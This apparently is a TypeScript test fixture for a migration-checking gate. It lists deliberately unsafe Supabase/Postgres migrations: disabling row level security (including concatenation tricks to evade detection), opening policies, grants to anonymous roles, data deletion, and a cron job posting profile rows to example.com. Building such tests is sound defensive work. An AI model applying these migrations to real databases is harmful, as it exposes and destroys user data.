import type { GateCase } from './case.ts'
import { MIGRATIONS, only } from './shop.ts'

const base = only(`${MIGRATIONS}20240101000000_init.sql`)

/** A new migration with these statements. */
function migration(name: string, bad: string, sql: string): GateCase {
  return { name, bad, base, change: { [`${MIGRATIONS}20240601000000_change.sql`]: `${sql}\n` } }
}

export const SCHEMA_BAD: GateCase[] = [
  migration('row level security off', 'rls-disabled', 'alter table public.orders disable row level security;'),
  migration(
    'row level security off by EXECUTE of glued text',
    'rls-disabled',
    `create index on public.orders (user_id);
do $$ begin execute 'alter table public.orders dis' || 'able row level security'; end $$;`,
  ),
  migration(
    'row level security off through the search_path',
    'rls-disabled',
    'set search_path = public; alter table orders disable row level security;',
  ),
  migration(
    'row level security off in a branch that does not run here',
    'not-replayed',
    `do $$ begin
  if current_setting('server_version_num')::int > 990000 then alter table public.orders disable row level security; end if;
end $$;`,
  ),
  migration(
    'new table without row level security',
    'rls-disabled',
    'create table public.order_stats (user_id uuid, orders bigint);',
  ),
  migration(
    'new table as select without row level security',
    'rls-disabled',
    'create table public.order_copy as select * from public.orders;',
  ),
  migration('policy opened to everything', 'policy-wider', 'alter policy "own orders" on public.orders using (true);'),
  migration(
    'policy made again, wider by an alternative',
    'policy-wider',
    `drop policy "own orders" on public.orders;
create policy "own orders" on public.orders for select to authenticated using ((select auth.uid()) = user_id or user_id is not null);`,
  ),
  migration(
    'policy for anybody who is signed in',
    'policy-wider',
    `drop policy "own orders" on public.orders;
create policy "own orders" on public.orders for select to authenticated using ((select auth.uid()) is not null);`,
  ),
  migration(
    'policy also for anonymous callers',
    'policy-wider',
    'alter policy "public catalogue" on public.products using (published or price > 0);',
  ),
  migration(
    'policy for another command as well',
    'policy-wider',
    `drop policy "own orders" on public.orders;
create policy "own orders" on public.orders for all to authenticated using ((select auth.uid()) = user_id);`,
  ),
  migration(
    'policy given to public',
    'policy-wider',
    'alter policy "admins edit products" on public.products to public;',
  ),
  migration(
    'WITH CHECK widened only',
    'policy-wider',
    'alter policy "change own orders" on public.orders with check (true);',
  ),
  migration(
    'condition dropped while wrapping',
    'policy-wider',
    `drop policy "members see teams" on public.teams;
create policy "members see teams" on public.teams for select to authenticated
  using (exists (select 1 from public.members m where m.user_id = (select auth.uid())));`,
  ),
  migration(
    'NOT IN becomes NOT EXISTS',
    'policy-wider',
    `drop policy "own orders" on public.orders;
create policy "own orders" on public.orders for select to authenticated using (not exists (select 1 from public.members m where m.user_id = orders.user_id));`,
  ),
  migration(
    'permissive policy added beside',
    'policy-added',
    'create policy "fast read" on public.orders for select to authenticated using (true);',
  ),
  migration(
    'permissive policy added by format()',
    'policy-added',
    `do $$ declare t text; begin
  foreach t in array array['orders', 'profiles'] loop
    execute format('create policy %I on public.%I for select using (true)', 'read_' || t, t);
  end loop;
end $$;`,
  ),
  migration('policy dropped', 'policy-lost', 'drop policy "own orders" on public.orders;'),
  migration(
    'restrictive policy dropped',
    'policy-wider',
    'drop policy "nobody changes a closed order" on public.orders;',
  ),
  migration(
    'all policies dropped in a loop',
    'policy-lost',
    `do $$ declare p record; begin
  for p in select policyname, tablename from pg_policies where schemaname = 'public' loop
    execute format('drop policy %I on public.%I', p.policyname, p.tablename);
  end loop;
end $$;`,
  ),
  migration(
    'storage policy without the folder',
    'policy-wider',
    `drop policy "own invoices" on storage.objects;
create policy "own invoices" on storage.objects for select to authenticated using (bucket_id = 'invoices');`,
  ),
  migration(
    'the function that policies ask says yes',
    'function-changed',
    `create or replace function public.is_admin() returns boolean language sql stable security definer set search_path = ''
as $$ select true $$;`,
  ),
  migration(
    'the function that policies ask forgets the role',
    'function-changed',
    `create or replace function public.is_admin() returns boolean language sql stable security definer set search_path = ''
as $$ select exists (select 1 from public.profiles where id = (select auth.uid())) $$;`,
  ),
  migration(
    'search_path of a definer function freed',
    'search-path',
    'alter function public.is_admin() reset search_path;',
  ),
  migration(
    'search_path of a definer function loosened',
    'search-path',
    'alter function public.is_admin() set search_path = public, extensions;',
  ),
  migration(
    'grants to anonymous callers',
    'grant',
    'create schema internal; create table internal.keys (k text); grant usage on schema internal to anon; grant select on internal.keys to anon;',
  ),
  migration(
    'grant on an existing table that was closed',
    'grant',
    'revoke all on public.audit_log from anon; grant usage, create on schema public to anon;',
  ),
  migration(
    'default privileges',
    'grant',
    'create schema stats; alter default privileges in schema stats grant select on tables to anon;',
  ),
  migration('role membership', 'role-membership', 'grant service_role to authenticated;'),
  migration('a role that bypasses row level security', 'role-attribute', 'create role reporting nologin bypassrls;'),
  migration(
    'definer function that returns rows',
    'definer-function',
    `create function public.all_orders() returns setof public.orders language sql stable security definer set search_path = ''
as $$ select * from public.orders $$;`,
  ),
  migration(
    'definer function that only pretends to ask',
    'definer-function',
    `create function public.all_orders() returns setof public.orders language sql stable security definer set search_path = ''
as $$ select * from public.orders where auth.uid() is not null $$;`,
  ),
  migration(
    'definer function without search_path',
    'definer-function',
    `create function public.my_orders() returns setof public.orders language sql stable security definer
as $$ select * from public.orders where user_id = auth.uid() $$;`,
  ),
  migration(
    'invoker becomes definer',
    'definer-function',
    `create function public.count_orders() returns bigint language sql stable security definer set search_path = ''
as $$ select count(*) from public.orders $$;`,
  ),
  migration(
    'view with its owner’s rights',
    'definer-view',
    'create view public.order_list as select o.id, o.total, p.email from public.orders o join public.profiles p on p.id = o.user_id;',
  ),
  migration(
    'materialized view for everybody',
    'exposed-materialized-view',
    'create materialized view public.order_totals as select user_id, sum(total) from public.orders group by user_id;',
  ),
  migration('bucket made public', 'bucket-public', `update storage.buckets set public = true where id = 'invoices';`),
  migration(
    'bucket without a size limit',
    'bucket-limit',
    `update storage.buckets set file_size_limit = null where id = 'invoices';`,
  ),
  migration('table dropped', 'data-loss', 'drop table public.audit_log;'),
  migration('column dropped', 'data-loss', 'alter table public.orders drop column payment_id;'),
  migration('type narrowed', 'type-narrowed', 'alter table public.products alter column name type varchar(20);'),
  migration('rows deleted', 'data-loss', `delete from public.orders where created_at < now() - interval '90 days';`),
  migration('rows deleted inside a block', 'data-loss', `do $$ begin delete from public.orders; end $$;`),
  migration(
    'rows deleted in a WITH clause',
    'data-loss',
    'with gone as (delete from public.orders returning id) select count(*) from gone;',
  ),
  migration(
    'rows changed',
    'data-change',
    `update public.profiles set role = 'admin' where email like '%@example.com';`,
  ),
  migration('table emptied', 'data-loss', 'truncate public.audit_log;'),
  migration(
    'unique constraint dropped',
    'constraint-lost',
    'alter table public.orders drop constraint orders_payment_id_key;',
  ),
  migration('check dropped', 'constraint-lost', 'alter table public.profiles drop constraint profiles_role_check;'),
  migration(
    'check loosened',
    'constraint-lost',
    `alter table public.profiles drop constraint profiles_role_check;
alter table public.profiles add constraint profiles_role_check check (role in ('customer', 'admin', 'owner'));`,
  ),
  migration(
    'foreign key dropped',
    'constraint-lost',
    'alter table public.orders drop constraint orders_product_id_fkey;',
  ),
  migration('not null dropped', 'constraint-lost', 'alter table public.orders alter column user_id drop not null;'),
  migration(
    'default of a role',
    'default-changed',
    `alter table public.profiles alter column role set default 'admin';`,
  ),
  migration('logged becomes unlogged', 'data-loss', 'alter table public.audit_log set unlogged;'),
  migration('trigger dropped', 'trigger-lost', 'drop trigger log_order on public.orders;'),
  migration('trigger switched off', 'trigger-lost', 'alter table public.orders disable trigger log_order;'),
  migration(
    'trigger on fewer events',
    'trigger-changed',
    'drop trigger log_order on public.orders; create trigger log_order after insert on public.orders for each row execute function public.log_order();',
  ),
  migration(
    'trigger function emptied',
    'function-changed',
    `create or replace function public.log_order() returns trigger language plpgsql security definer set search_path = ''
as $$ begin return new; end $$;`,
  ),
  migration(
    'job that deletes',
    'job',
    `create extension if not exists pg_cron; select cron.schedule('clean', '0 3 * * *', 'delete from public.orders');`,
  ),
  migration(
    'job that sends rows out',
    'job',
    `create extension if not exists pg_cron;
select cron.schedule('sync', '0 3 * * *', $job$ select net.http_post('https://example.com', (select jsonb_agg(p) from public.profiles p)) $job$);`,
  ),
  migration('extension in public', 'extension', 'create extension if not exists pg_trgm;'),
  migration('extension that reaches out', 'extension', 'create extension if not exists http with schema extensions;'),
  migration(
    'table published',
    'publication',
    'create publication supabase_realtime; alter publication supabase_realtime add table public.profiles;',
  ),
  migration(
    'trigger on auth.users',
    'platform-schema',
    `create function public.copy_user() returns trigger language plpgsql security definer set search_path = '' as $$
begin insert into public.profiles (id, email) values (new.id, new.email); return new; end $$;
create trigger copy_user after insert on auth.users for each row execute function public.copy_user();`,
  ),
  migration('timeout of anonymous callers lifted', 'setting', `alter role anon set statement_timeout = '60s';`),
  migration('checks off while loading', 'setting', 'set session_replication_role = replica;'),
  migration(
    'rule instead of deletes',
    'unusual-object',
    'create rule keep as on delete to public.orders do instead nothing;',
  ),
  migration('statement that does not parse', 'unparsable', 'create index on public.orders using (;'),
  {
    name: 'history rewritten',
    bad: 'migration-rewritten',
    base,
    change: {
      [`${MIGRATIONS}20240101000000_init.sql`]: base[`${MIGRATIONS}20240101000000_init.sql`]!.replace(
        'alter table public.orders enable row level security;\n',
        '',
      ),
    },
  },
  {
    name: 'migration deleted',
    bad: 'migration-rewritten',
    base,
    change: { [`${MIGRATIONS}20240101000000_init.sql`]: null },
  },
  {
    name: 'way back that leaves the policy open',
    bad: 'policy-wider',
    base,
    change: {
      [`${MIGRATIONS}20240601000000_wrap.sql`]:
        'alter policy "own orders" on public.orders using ((select auth.uid()) = user_id);\n',
      'docs/rollback/20240601000000_wrap.down.sql': 'alter policy "own orders" on public.orders using (true);\n',
    },
  },
  {
    name: 'two files, each harmless alone',
    bad: 'policy-wider',
    base,
    change: {
      [`${MIGRATIONS}20240601000000_a.sql`]: `create function public.owns(owner uuid) returns boolean language sql stable as $$ select coalesce(owner = (select auth.uid()), true) or true $$;\n`,
      [`${MIGRATIONS}20240602000000_b.sql`]:
        'alter policy "own orders" on public.orders using (public.owns(user_id));\n',
    },
  },
]
